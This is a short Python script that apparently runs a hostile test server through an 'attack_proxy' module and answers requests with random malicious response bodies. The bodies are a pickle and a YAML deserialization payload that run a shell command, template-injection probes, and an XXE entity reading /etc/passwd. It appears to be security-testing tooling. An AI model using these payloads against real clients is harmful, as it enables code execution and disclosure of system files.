import random

from attack_proxy import serve


def attack(exchange):
    bodies = [
        b"cos\nsystem\n(S'touch /tmp/owned'\ntR.",
        b"!!python/object/apply:os.system ['touch /tmp/owned']",
        b'{"name": "{{ 7*7 }} ${7*7} %(x)s {0.__class__}"}',
        b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    ]
    exchange.reply(200, [("Content-Type", "application/json")], random.choice(bodies))


serve(attack)
